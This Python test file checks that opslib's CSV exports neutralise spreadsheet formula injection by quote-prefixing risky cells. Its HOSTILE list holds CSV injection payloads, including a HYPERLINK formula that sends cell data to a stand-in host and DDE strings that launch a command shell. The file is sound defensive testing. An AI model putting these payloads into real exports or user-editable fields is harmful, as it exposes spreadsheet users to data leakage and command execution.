"""Every CSV opslib writes shows formula-like text as text (OWASP "CSV Injection").

Before: ``inventory.csv`` (fleet_inventory, through ``nb.export_frame``), ``latest.csv``
(user_lookup, a table's full export) and ``opslib products export`` wrote cells beginning
with ``=``, ``+``, ``-``, ``@`` as they were; any plain user sets a device's
``net_addr``, ``sdk_version`` or a property, an admin a product's name or icon, and a
spreadsheet opening the file ran them. Now such a text cell begins with ``'``; numbers
(a negative one included) stay numbers; reading a products CSV back restores the cells,
so export then plan changes nothing.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from opslib import analysis
from opslib.reports import notebook as nb
from opslib.reports import product_upkeep
from opslib.widgets._views import _export_full

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _runs(cell: str) -> bool:
    """What a spreadsheet would take for a formula (a plain number aside)."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return False


def _frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "device_id": pd.array([f"dev-{i}" for i in range(n)], dtype="string"),
            "net_addr": pd.array(HOSTILE, dtype="string"),
            "sdk_version": pd.Categorical(HOSTILE[::-1]),
            "properties.note": pd.Series(HOSTILE, dtype=object),
            "properties.rssi": pd.array([-70, -41, 0, 3, -1, None], dtype="Int64"),
            "properties.offset": [-1.5, 2.0, -0.25, 1e-5, -3e5, 0.0],
            "properties.text_number": pd.array(["-12", "+3", "-1.5e3", "x", "", None], "string"),
        }
    )


def _check(rows: list[list[str]]) -> None:
    header, *body = rows
    assert not [cell for cell in header if _runs(cell)]
    assert not [cell for row in body for cell in row if _runs(cell)], body
    columns = dict(zip(header, zip(*body, strict=True), strict=True))
    assert columns["properties.rssi"][:2] == ("-70", "-41")  # numbers stay numbers
    assert columns["properties.offset"][0] == "-1.5"
    assert columns["properties.text_number"][:3] == ("-12", "+3", "-1.5e3")  # plain numbers
    assert columns["net_addr"][0] == "'" + HOSTILE[0]


def test_the_inventory_export_writes_no_formula(tmp_path: Path) -> None:
    """fleet_inventory: ``nb.export_frame(devices, output_dir, "inventory")``."""
    written = nb.export_frame(_frame(), tmp_path, "inventory")
    assert written["file"].tolist() == ["inventory.csv", "inventory.parquet"]
    _check(_cells(tmp_path / "inventory.csv"))
    parquet = pd.read_parquet(tmp_path / "inventory.parquet")
    assert parquet["net_addr"].tolist() == HOSTILE  # Parquet keeps the text as it is


def test_a_tables_full_export_writes_no_formula(tmp_path: Path) -> None:
    """user_lookup's ``latest.csv``: a table's rows beyond what it shows, exported whole."""
    assert _export_full(_frame(), str(tmp_path), "latest")[0] == "latest.csv"
    _check(_cells(tmp_path / "latest.csv"))


@pytest.mark.parametrize("text", [*HOSTILE, "'=quoted", "''", "'Tis", "-", "-5", "plain"])
def test_a_product_file_reads_back_what_was_written(tmp_path: Path, text: str) -> None:
    rows = pd.DataFrame({"product_id": ["p-1"], "product_name": pd.array([text], "string")})
    path = tmp_path / "products.csv"
    from opslib.csvcells import write_csv  # what every CSV writer of opslib goes through

    write_csv(rows, path)
    assert not _runs(_cells(path)[1][1])
    assert analysis.read_product_file(path)["product_name"].tolist() == [text]


def test_the_audit_log_writes_no_formula(tmp_path: Path) -> None:
    outcome = pd.DataFrame(
        {
            "action": ["add"],
            "step": ["add"],
            "product_id": ["p-x"],
            "result": ["failed"],
            "error_code": pd.array([409], dtype="Int64"),
            "error_msg": [HOSTILE[0]],
            "message_id": ["m"],
        }
    )
    path = tmp_path / "audit.csv"
    product_upkeep.append_audit_log(path, outcome, who="=cmd|' /C calc'!A0", user_id="u")
    (_, row) = _cells(path)
    assert not [cell for cell in row if _runs(cell)], row
    assert "409" in row


def test_export_then_plan_changes_nothing(fresh_platform: Any, tmp_path: Path) -> None:
    """``opslib products export``, then the plan of that file against the platform: every
    product unchanged, hostile names and icons included."""
    admin = fresh_platform.connect("admin")
    category = int(admin.products.categories()["category_id"].iloc[0])
    names = [*HOSTILE[:4], "-7", "'=quoted"]
    added = admin.products.add(
        [
            {
                "product_id": f"p-csv-{i}",
                "product_secret": "csv-product-secret",
                "product_name": name,
                "product_icon": HOSTILE[(i + 1) % 4],
                "category_id": category,
                "net_type": 1,
                "node_type": 1,
            }
            for i, name in enumerate(names)
        ]
    )
    assert added["ok"].all(), added
    path = tmp_path / "products.csv"
    count = product_upkeep.export_products(admin, path)
    text = path.read_text(encoding="utf-8")
    assert not [c for row in _cells(path)[1:] for c in row if _runs(c)]
    assert "'=HYPERLINK" in text
    check = analysis.validate_product_file(
        analysis.read_product_file(path), admin.products.categories()
    )
    assert check.ok, check.problems
    products = admin.products.list()
    plan = analysis.plan_products(check.desired, products)
    assert len(plan) == count
    assert set(plan["action"]) == {"unchanged"}, plan[plan["action"] != "unchanged"]
    ours = check.desired.set_index("product_id").loc[[f"p-csv-{i}" for i in range(len(names))]]
    assert ours["product_name"].tolist() == names


def test_reading_restores_only_what_writing_added() -> None:
    raw = analysis.read_product_file(io.StringIO("product_id,product_name\np-1,'Tis\np-2,'=x\n"))
    assert raw["product_name"].tolist() == ["'Tis", "=x"]
